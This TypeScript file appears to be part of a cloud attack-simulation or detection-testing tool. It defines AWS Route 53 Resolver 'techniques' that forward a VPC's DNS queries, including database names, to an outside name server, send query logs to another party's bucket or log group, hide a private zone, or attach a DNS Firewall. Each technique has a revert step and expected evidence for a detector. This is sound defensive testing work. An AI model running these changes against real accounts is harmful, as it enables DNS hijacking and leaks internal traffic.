import {
  AssociateFirewallRuleGroupCommand,
  AssociateResolverQueryLogConfigCommand,
  AssociateResolverRuleCommand,
  CreateFirewallRuleGroupCommand,
  CreateResolverQueryLogConfigCommand,
  CreateResolverRuleCommand,
  DeleteFirewallRuleGroupCommand,
  DeleteResolverQueryLogConfigCommand,
  DeleteResolverRuleCommand,
  DisassociateFirewallRuleGroupCommand,
  DisassociateResolverQueryLogConfigCommand,
  DisassociateResolverRuleCommand,
  type RuleTypeOption,
} from '@aws-sdk/client-route53resolver';
import type { SharedTechnique } from '../surroundings-target';
import { STRANGER } from '../technique';

const forwarding = (name: string, DomainName: string, RuleType: RuleTypeOption = 'FORWARD'): SharedTechnique => ({
  name,
  check: 'cell.dns',
  detonate: async ({ surroundings: { cell }, root: { resolver } }) => {
    const { ResolverRule } = await resolver.send(
      new CreateResolverRuleCommand({
        ...{ CreatorRequestId: `${Date.now()}`, Name: 'support', RuleType, DomainName },
        // "CreateResolverRule": a system rule forwards to nobody.
        ...(RuleType === 'FORWARD' && {
          TargetIps: [{ Ip: '198.51.100.53', Port: 53 }],
          ResolverEndpointId: 'rslvr-out-1',
        }),
      }),
    );
    const association = { ResolverRuleId: ResolverRule?.Id, VPCId: cell.vpcId };
    await resolver.send(new AssociateResolverRuleCommand(association));
    const revert = async () => {
      await resolver.send(new DisassociateResolverRuleCommand(association));
      await resolver.send(new DeleteResolverRuleCommand({ ResolverRuleId: ResolverRule?.Id }));
    };
    return { expectedEvidence: `Resolver rule ${ResolverRule?.Id}`, revert };
  },
});

const logging = (name: string, DestinationArn: string): SharedTechnique => ({
  name,
  check: 'cell.dns',
  detonate: async ({ surroundings: { cell }, root: { resolver } }) => {
    const { ResolverQueryLogConfig } = await resolver.send(
      new CreateResolverQueryLogConfigCommand({ CreatorRequestId: `${Date.now()}`, Name: 'support', DestinationArn }),
    );
    const { Id: ResolverQueryLogConfigId } = ResolverQueryLogConfig ?? {};
    const association = { ResolverQueryLogConfigId, ResourceId: cell.vpcId };
    await resolver.send(new AssociateResolverQueryLogConfigCommand(association));
    const revert = async () => {
      await resolver.send(new DisassociateResolverQueryLogConfigCommand(association));
      await resolver.send(new DeleteResolverQueryLogConfigCommand({ ResolverQueryLogConfigId }));
    };
    return { expectedEvidence: `query log ${ResolverQueryLogConfigId}`, revert };
  },
});

/** How a cell's hosts are led elsewhere, or listened to, by Route 53 Resolver. */
export const CELL_RESOLVER_TECHNIQUES: readonly SharedTechnique[] = [
  forwarding('forward the databases’ names to a stranger’s name server', 'eu-central-1.rds.amazonaws.com'),
  forwarding('forward every name to a stranger’s name server', '.'),
  forwarding('hide a private zone’s names behind a system rule', 'amazonaws.com', 'SYSTEM'),
  logging('tell a stranger’s bucket what the cell’s hosts ask for', 'arn:aws:s3:::theirs'),
  logging(
    'tell a stranger’s log group what the cell’s hosts ask for',
    `arn:aws:logs:eu-central-1:${STRANGER}:log-group:/theirs`,
  ),
  {
    name: 'let a DNS Firewall answer the cell’s hosts',
    check: 'cell.dns',
    detonate: async ({ surroundings: { cell }, root: { resolver } }) => {
      const CreatorRequestId = `${Date.now()}`;
      const { FirewallRuleGroup } = await resolver.send(
        new CreateFirewallRuleGroupCommand({ CreatorRequestId, Name: 'support' }),
      );
      const { Id: FirewallRuleGroupId } = FirewallRuleGroup ?? {};
      const { FirewallRuleGroupAssociation } = await resolver.send(
        new AssociateFirewallRuleGroupCommand({
          ...{ CreatorRequestId, FirewallRuleGroupId, VpcId: cell.vpcId, Priority: 101, Name: 'support' },
        }),
      );
      const revert = async () => {
        const { Id: FirewallRuleGroupAssociationId } = FirewallRuleGroupAssociation ?? {};
        await resolver.send(new DisassociateFirewallRuleGroupCommand({ FirewallRuleGroupAssociationId }));
        await resolver.send(new DeleteFirewallRuleGroupCommand({ FirewallRuleGroupId }));
      };
      return { expectedEvidence: `rule group ${FirewallRuleGroupId} (support)`, revert };
    },
  },
];
